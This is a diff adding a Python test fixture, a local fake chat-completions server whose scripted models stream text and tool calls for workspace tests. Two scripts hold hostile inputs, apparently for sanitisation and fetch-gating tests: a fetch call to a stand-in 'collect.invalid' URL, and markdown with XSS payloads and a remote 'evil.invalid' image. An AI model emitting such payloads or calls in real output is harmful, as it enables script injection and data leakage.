@@ -1,0 +1,159 @@
+"""A vendor whose models follow scripts and stream their words, for what is tested through the workspace: over real sockets, in threads.
+
+The model's name says the script. A step is a text, or the calls that it wants made; which step is next follows from the conversation
+alone, so a run that goes on after a crash meets the same model. `{said}` in a text is what the person said last. A model named `slow`
+says a word and then waits, until it is hung up on or `go` is set.
+"""
+
+import json
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any, TypeAlias
+
+Step: TypeAlias = str | list[tuple[str, dict[str, str]]]
+
+SCRIPTS: dict[str, list[Step]] = {
+    "echo": ["You said: {said}"],
+    "slow": ["Water runs down the headrace to the wheel."],
+    "coder": [
+        [("list_files", {})],
+        [("write_file", {"path": "hello.py", "text": "print('hello')\n"})],
+        "I wrote **hello.py**.",
+    ],
+    "visitor": [[("fetch", {"url": "https://collect.invalid/?a=1"})], "I could not read that page."],
+    "boss": [[("delegate", {"task": "Count to three"})], "It was counted."],
+    "painter": [
+        "# A heading\n\nSome *text* with `code`, a [link](https://example.org/) and **weight**.\n\n| river | length |\n|---|---:|\n"
+        "| Rhine | 1,233 |\n| Elbe | 1,094 |\n\n```python\ndef add(a, b):\n    return a + b\n```\n\n$$E = mc^2$$\n\n- one\n- two\n\n"
+        "<img src=x onerror=alert(1)><script>alert(2)</script>\n\n![remote](https://evil.invalid/p.png)"
+    ],
+}
+WORDS_A_PIECE = 2
+
+
+class Talker(ThreadingHTTPServer):
+    """`asked` are the requests that came; `go` lets slow models go on; `hung_up` is set when one was left."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _Handler)
+        self.asked: list[dict[str, Any]] = []
+        self.go, self.hung_up = threading.Event(), threading.Event()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_port}/v1"
+
+
+class _Handler(BaseHTTPRequestHandler):
+    server: Talker
+    protocol_version = "HTTP/1.1"
+
+    def do_GET(self) -> None:
+        self._answer(b'{"object":"list","data":[]}', "application/json")
+
+    def do_POST(self) -> None:
+        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
+        self.server.asked.append(asked)
+        step = _next(asked)
+        if not asked.get("stream"):
+            message = {"role": "assistant", "content": step if isinstance(step, str) else None, **_calls(step, asked)}
+            answer = {
+                "id": "x",
+                "object": "chat.completion",
+                "created": 1,
+                "model": asked["model"],
+                "choices": [{"index": 0, "message": message, "finish_reason": _reason(step)}],
+                "usage": _USAGE,
+            }
+            self._answer(json.dumps(answer).encode(), "application/json")
+            return
+        self.send_response(200)
+        self.send_header("content-type", "text/event-stream")
+        self.send_header("connection", "close")
+        self.end_headers()
+        self.close_connection = True
+        try:
+            self._stream(asked, step)
+        except OSError:
+            self.server.hung_up.set()
+
+    def _stream(self, asked: dict[str, Any], step: Step) -> None:
+        if isinstance(step, str):
+            words = step.split(" ")
+            for at in range(0, len(words), WORDS_A_PIECE):
+                piece = " ".join(words[at : at + WORDS_A_PIECE]) + (" " if at + WORDS_A_PIECE < len(words) else "")
+                self._say({"index": 0, "delta": {"content": piece}, "finish_reason": None}, asked)
+                while asked["model"] == "slow" and not self.server.go.wait(0.05):
+                    self.wfile.write(b": waiting\n\n")
+                    self.wfile.flush()
+        else:
+            self._say({"index": 0, "delta": _calls(step, asked, numbered=True), "finish_reason": None}, asked)
+        self._say({"index": 0, "delta": {}, "finish_reason": _reason(step)}, asked)
+        self._say(None, asked)
+        self.wfile.write(b"data: [DONE]\n\n")
+
+    def _say(self, choice: dict[str, Any] | None, asked: dict[str, Any]) -> None:
+        chunk = {
+            "id": "x",
+            "object": "chat.completion.chunk",
+            "created": 1,
+            "model": asked["model"],
+            "choices": [] if choice is None else [choice],
+            "usage": _USAGE if choice is None else None,
+        }
+        self.wfile.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")
+        self.wfile.flush()
+
+    def _answer(self, body: bytes, kind: str) -> None:
+        self.send_response(200)
+        self.send_header("content-type", kind)
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+_USAGE = {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}
+
+
+def _next(asked: dict[str, Any]) -> Step:
+    messages = asked["messages"]
+    last = max(at for at, message in enumerate(messages) if message["role"] == "user")
+    turn = sum(message["role"] == "assistant" for message in messages[last:])
+    script = SCRIPTS[asked["model"]]
+    step = script[min(turn, len(script) - 1)]
+    offered = {tool["function"]["name"] for tool in asked.get("tools", ())}
+    if not isinstance(step, str) and any(name not in offered for name, _ in step):  # as a sub-agent, which may not hand on
+        step = script[-1]
+    return step.replace("{said}", messages[last]["content"]) if isinstance(step, str) else step
+
+
+def _calls(step: Step, asked: dict[str, Any], *, numbered: bool = False) -> dict[str, Any]:
+    if isinstance(step, str):
+        return {}
+    calls = [
+        {"id": f"c{len(asked['messages'])}{at}", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}
+        for at, (name, arguments) in enumerate(step)
+    ]
+    return {"tool_calls": [{**call, "index": at} for at, call in enumerate(calls)] if numbered else calls}
+
+
+def _reason(step: Step) -> str:
+    return "stop" if isinstance(step, str) else "tool_calls"
+
+
+@contextmanager
+def talking() -> Iterator[Talker]:
+    """The vendor, for as long as the block lasts."""
+    with Talker() as talker:
+        thread = threading.Thread(target=talker.serve_forever, daemon=True, kwargs={"poll_interval": 0.05})
+        thread.start()
+        yield talker
+        talker.go.set()
+        talker.shutdown()
